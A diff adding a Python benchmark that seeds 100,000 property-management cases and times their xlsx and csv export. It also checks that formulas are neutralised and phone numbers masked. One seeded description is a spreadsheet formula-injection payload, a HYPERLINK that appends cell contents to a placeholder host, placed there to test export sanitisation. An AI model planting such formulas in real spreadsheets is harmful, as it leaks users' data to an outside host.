@@ -1,0 +1,136 @@
+"""How long the month's case archive takes to export when the month holds 100,000 cases.
+
+    python bench/export.py [--cases N] [--pg] [--pg-url URL]
+
+Seeds N cases opened within one month (timelines, reworks, callbacks: the same histories
+as bench/reports.py) into a fresh SQLite file — and with --pg into a scratch PostgreSQL
+database it creates and drops — gives them realistic owner-typed descriptions (a fifth
+carry a phone number typed some odd way, some start with a formula), then times
+`wuye report --cases` as xlsx and as csv (median of --repeat runs), and checks the
+result: every case exported, no live formula, no unmasked phone.
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import io
+import statistics
+import sys
+import tempfile
+import time
+import uuid
+from datetime import timedelta
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT))
+
+from sqlalchemy import text  # noqa: E402
+from sqlalchemy.engine import make_url  # noqa: E402
+
+import bench.reports as seed  # noqa: E402
+from bot import reporting  # noqa: E402
+from bot.bootstrap import build_app, load_community_file  # noqa: E402
+from bot.settings import Settings  # noqa: E402
+from cases.clock import FakeClock  # noqa: E402
+
+DESCRIPTIONS = [
+    "厨房水槽下面的水管接头漏水，地面都湿了",
+    "楼道灯坏了好几天，晚上看不见，麻烦尽快修",
+    "电话 138 0000 0001，下午在家，来之前打我电话",
+    "=HYPERLINK(\"http://example.invalid/?\"&J2&K2,\"点此查看照片\")",
+    "卫生间地漏反味，联系我１３９．１２３４．５６７８",
+    "空调外机噪音很大，影响休息",
+    "-1+1 门禁卡失灵",
+    "@物业 停车位被占用了",
+    "窗户关不严，漏风",
+    "电梯按钮不亮",
+]
+
+
+async def run(url: str, n: int, repeat: int) -> dict[str, float]:
+    seed.DAYS = 30  # the whole history inside one month
+    month_end = seed.END.astimezone(seed.timezone(timedelta(hours=8))).date()
+    month = (month_end - timedelta(days=31), month_end + timedelta(days=1))
+    settings = Settings(DATABASE_URL=url, COMMUNITY_FILE=seed.COMMUNITY, _env_file=None)  # type: ignore[call-arg]
+    app = await build_app(settings, FakeClock(seed.END + timedelta(hours=9)))
+    out: dict[str, float] = {}
+    try:
+        await load_community_file(app, str(seed.COMMUNITY))
+        began = time.perf_counter()
+        counts = await seed.Seeder(app, n).run()
+        async with app.engine.begin() as conn:
+            for i, description in enumerate(DESCRIPTIONS):
+                await conn.execute(text("UPDATE cases SET description = :d WHERE id % :k = :i"),
+                                   {"d": description, "k": len(DESCRIPTIONS), "i": i})
+            if app.engine.dialect.name == "postgresql":
+                await conn.execute(text("ANALYZE"))
+        print(f"  seeded {counts['cases']:,} cases, {counts['timeline']:,} timeline entries "
+              f"in {time.perf_counter() - began:.1f} s", flush=True)
+        for fmt in ("xlsx", "csv"):
+            times = []
+            for _ in range(repeat):
+                began = time.perf_counter()
+                data = await reporting.export_cases(app, *month, fmt)
+                times.append(time.perf_counter() - began)
+            out[fmt] = statistics.median(times)
+            exported = _check(data, fmt)
+            print(f"  {fmt}: {exported:,} cases, {len(data) / 1e6:.1f} MB, median {out[fmt]:.2f} s "
+                  f"(runs: {', '.join(f'{t:.2f}' for t in times)})", flush=True)
+            assert exported == counts["cases"], (exported, counts["cases"])
+    finally:
+        await app.close()
+    return out
+
+
+def _check(data: bytes, fmt: str) -> int:
+    """The export holds every case, no formula cell and no unmasked phone."""
+    from cases.privacy import scrub
+
+    if fmt == "csv":
+        import csv
+
+        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)
+        assert all(scrub(row[10]) == row[10] for row in rows)  # descriptions: nothing left to mask
+        return len(rows)
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(data), read_only=True)["Cases"]
+    count = 0
+    for row in sheet.iter_rows(min_row=2):
+        count += 1
+        for cell in row:
+            assert cell.data_type != "f", cell.value
+    return count
+
+
+async def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--cases", type=int, default=100_000)
+    parser.add_argument("--repeat", type=int, default=3)
+    parser.add_argument("--pg", action="store_true", help="also on PostgreSQL")
+    parser.add_argument("--pg-url", default=seed.PG_ADMIN)
+    args = parser.parse_args()
+    results: dict[str, dict[str, float]] = {}
+    with tempfile.TemporaryDirectory(prefix="wuye-export-") as tmp:
+        print("SQLite:", flush=True)
+        results["SQLite"] = await run(f"sqlite+aiosqlite:///{Path(tmp) / 'bench.sqlite3'}", args.cases, args.repeat)
+    if args.pg:
+        seed.PG_ADMIN = args.pg_url
+        name = f"wuye_export_{uuid.uuid4().hex[:8]}"
+        await seed._pg_admin(f'CREATE DATABASE "{name}"')
+        try:
+            print(f"PostgreSQL ({name}):", flush=True)
+            url = make_url(args.pg_url).set(database=name).render_as_string(hide_password=False)
+            results["PostgreSQL"] = await run(url, args.cases, args.repeat)
+        finally:
+            await seed._pg_admin(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
+    print(f"\nmonth archive of {args.cases:,} cases, median seconds (goal: xlsx under 3 s)")
+    for backend, r in results.items():
+        print(f"  {backend:11} xlsx {r['xlsx']:6.2f}   csv {r['csv']:6.2f}")
+
+
+if __name__ == "__main__":
+    asyncio.run(main())
